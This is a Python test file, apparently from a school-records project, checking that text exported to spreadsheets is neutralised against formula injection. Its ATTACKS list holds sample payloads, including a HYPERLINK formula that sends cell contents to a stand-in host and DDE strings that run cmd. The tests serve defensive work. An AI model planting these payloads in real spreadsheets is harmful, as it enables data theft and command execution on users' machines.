"""Text going back out into spreadsheets is neutralised against formula injection."""

from __future__ import annotations

import io

import pytest

from schoolvault.safe_text import is_formula_like, neutralize_formula

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=1+1"]
HARMLESS = ["선생님들께 감사합니다.", "3학년 2반", "", "1+1=2", "이메일은 a@b.c", "5점 만점"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(text):
    assert is_formula_like(text)
    assert neutralize_formula(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_is_unchanged(text):
    assert neutralize_formula(text) == text


@pytest.mark.parametrize("value", [3, -2, 4.5, None, True])
def test_numbers_and_blanks_are_unchanged(value):
    assert neutralize_formula(value) is value


@pytest.mark.parametrize("engine", ["openpyxl", "xlsxwriter"])
def test_neutralised_attacks_are_text_cells_when_read_back(engine):
    import openpyxl
    buf = io.BytesIO()
    if engine == "openpyxl":
        wb = openpyxl.Workbook()
        for text in ATTACKS:
            wb.active.append([neutralize_formula(text)])
        wb.save(buf)
    else:
        import xlsxwriter
        wb = xlsxwriter.Workbook(buf, {"in_memory": True})
        ws = wb.add_worksheet()
        for r, text in enumerate(ATTACKS):
            ws.write(r, 0, neutralize_formula(text))
        wb.close()
    buf.seek(0)
    cells = [row[0] for row in openpyxl.load_workbook(buf).active.iter_rows()]
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    assert len(cells) == len(ATTACKS) and all(c.value.startswith("'") for c in cells)


def test_unneutralised_formula_would_be_a_formula_cell():
    """Guard for the test above: openpyxl really writes '=…' text as a formula."""
    import openpyxl
    buf = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active.append([ATTACKS[0]])
    wb.save(buf)
    buf.seek(0)
    assert openpyxl.load_workbook(buf).active["A1"].data_type == "f"
